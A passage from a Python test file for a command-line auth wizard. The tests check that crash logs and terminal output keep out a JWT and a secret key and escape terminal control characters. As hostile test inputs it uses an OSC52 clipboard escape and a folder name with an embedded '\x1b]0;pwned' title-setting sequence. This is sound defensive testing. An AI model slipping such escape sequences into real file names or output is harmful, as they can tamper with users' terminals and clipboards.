    assert "Traceback" in log and "RuntimeError: injected" in log and "explode" in log
    for part in jwt.split("."):
        assert part not in log
    assert SECRET_KEY not in log and not unsafe_characters(log, allowed="\n")


def test_the_last_resort_handler_shows_one_safe_line(monkeypatch: pytest.MonkeyPatch,
                                                     tmp_path: Path, project: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    import wizard.cli as cli

    def explode(args: Any) -> int:
        raise ValueError("bad " + OSC52 + "\nsecond line " + SECRET_KEY)

    monkeypatch.setitem(cli._COMMANDS, "check", explode)
    monkeypatch.setenv("CONVEX_AUTH_WIZARD_STATE_DIR", str(tmp_path / "state"))
    assert main(["check", "--project", str(project)]) == 1
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "ValueError: bad \\x1b]52" in err
    assert SECRET_KEY not in err and not unsafe_characters(err)
    assert list((tmp_path / "state" / "logs").glob("crash-*.log"))


def test_everything_a_headless_command_prints_is_visible(
        project: Path, capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """The guarded streams: even a message no one sanitised (here the reset command's own
    lines, which name the project folder) reaches the terminal visibly."""
    hostile = tmp_path / ("app" + "\x1b]0;pwned\x07")
    project.rename(hostile)
    monkeypatch.setenv("CONVEX_AUTH_WIZARD_STATE_DIR", str(tmp_path / "state"))
    assert main(["reset", "--project", str(hostile)]) == 0
    captured = capsys.readouterr()
    assert "\\x1b]0;pwned\\x07" in captured.out and not unsafe_characters(captured.out)


@pytest.fixture(autouse=True)
def _no_crash_logs_outside(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Crash logs of in-process runs go to the test's own folder, never the user's."""
    if "CONVEX_AUTH_WIZARD_STATE_DIR" not in os.environ:
        monkeypatch.setenv("CONVEX_AUTH_WIZARD_STATE_DIR", str(tmp_path / "default-state"))

